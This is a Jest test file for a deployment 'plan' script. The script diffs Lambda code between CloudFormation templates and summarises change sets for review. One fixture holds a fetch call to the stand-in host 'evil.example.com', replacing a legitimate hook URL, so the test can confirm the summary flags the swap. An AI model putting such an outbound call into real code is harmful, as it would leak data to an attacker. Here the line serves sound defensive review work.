import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'plan-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

const write = (name: string, value: unknown): string => {
  const file = join(folder, name);
  mkdirSync(join(file, '..'), { recursive: true });
  writeFileSync(file, typeof value === 'string' ? value : JSON.stringify(value));
  return file;
};

const plan = (...args: readonly string[]) => {
  const { status, stdout, stderr } = spawnSync(process.execPath, ['lib/github/plan.ts', ...args], { encoding: 'utf8' });
  return { status, stdout, stderr };
};

const template = (keys: Readonly<Record<string, string>>) => ({
  Resources: {
    Table: { Type: 'AWS::DynamoDB::Table', Properties: {} },
    ...Object.fromEntries(
      Object.entries(keys).map(([name, S3Key]) => [
        name,
        { Type: 'AWS::Lambda::Function', Properties: { FunctionName: `BakeryCommerce-us-${name}`, Code: { S3Bucket: 'any', S3Key } } },
      ]),
    ),
  },
});

const deployed = () => write('deployed.json', template({ orders: 'aaa.zip', deliver: 'bbb.zip' }));
const next = () => write('next.json', template({ orders: 'aaa.zip', deliver: 'ccc.zip', checkout: 'ddd.zip' }));

const available = {
  ChangeSetId: 'arn:aws:cloudformation:us-east-1:123456789012:changeSet/plan-1-1/a',
  Status: 'CREATE_COMPLETE',
  ExecutionStatus: 'AVAILABLE',
  Changes: [
    {
      Type: 'Resource',
      ResourceChange: { Action: 'Modify', LogicalResourceId: 'DataTable', ResourceType: 'AWS::DynamoDB::Table', Replacement: 'True' },
    },
  ],
};
const empty = {
  ...available,
  Status: 'FAILED',
  StatusReason: "The submitted information didn't contain changes. Submit different information to create a change set.",
  ExecutionStatus: 'UNAVAILABLE',
  Changes: [],
};

test('the plan fetches the deployed code of changed functions only', () => {
  expect(plan('changed', deployed(), next())).toEqual({ status: 0, stdout: 'bbb.zip\n', stderr: '' });
  // Forms in which AWS's command prints that a stack has no template yet.
  for (const none of ['{}', '', '""', 'null\n'])
    expect(plan('changed', write('new.json', none), next())).toMatchObject({ status: 0, stdout: '' });
});

test('the summary names each changed resource and its replacement, and the texts that appear and disappear in changed code', () => {
  write('old/bbb/index.mjs', 'const a="https://hooks.example.com";fetch(a,"retained")');
  write('assembly/asset.ccc/index.mjs', 'const z="https://evil.example.com";fetch(z,"retained")');
  write('assembly/asset.ddd/index.mjs', 'export const handler=1');
  const { stdout, status } = plan(
    'summary',
    write('change-set.json', available),
    deployed(),
    next(),
    join(folder, 'old'),
    join(folder, 'assembly'),
  );
  expect(status).toBe(0);
  expect(stdout).toContain('## 1 resources change');
  expect(stdout).toMatch(/\| Modify \| True +\| DataTable \| AWS::DynamoDB::Table \|/);
  const [, deliver = '', checkout = ''] = stdout.split('### ');
  expect(deliver).toMatch(/^BakeryCommerce-us-deliver/);
  expect(deliver).toContain('- "https://hooks.example.com"\n+ "https://evil.example.com"');
  expect(deliver).not.toContain('retained');
  expect(deliver.match(/54 bytes, sha256 [0-9a-f]{12}/g)?.length).toBe(1);
  expect(checkout).toMatch(/^BakeryCommerce-us-checkout[\s\S]*no deployed code to compare with/);
  expect(stdout).not.toContain('### BakeryCommerce-us-orders');
});

test('the deployment gets the ARN of the change set, and nothing if the stack stays as it is', () => {
  expect(plan('executable', write('change-set.json', available)).stdout).toBe(`change-set=${available.ChangeSetId}\n`);
  expect(plan('executable', write('change-set.json', empty)).stdout).toBe('change-set=\n');
  expect(plan('summary', write('change-set.json', empty), deployed(), deployed(), folder, folder).stdout).toContain('stays as it is');
});

test('a change set that failed for another reason ends the plan with the reason', () => {
  const failed = { ...empty, StatusReason: 'Resource type AWS::X is not supported.' };
  const { status, stderr } = plan('executable', write('change-set.json', failed));
  expect([status, stderr]).toEqual([1, expect.stringContaining('Resource type AWS::X is not supported.')]);
});

test('the plan imports modules of Node alone, because its job has an identity', () => {
  const imports = readFileSync('lib/github/plan.ts', 'utf8').match(/^import .*$/gm) ?? [];
  expect(imports).toHaveLength(2);
  for (const line of imports) expect(line).toMatch(/ from 'node:\w+';$/);
});
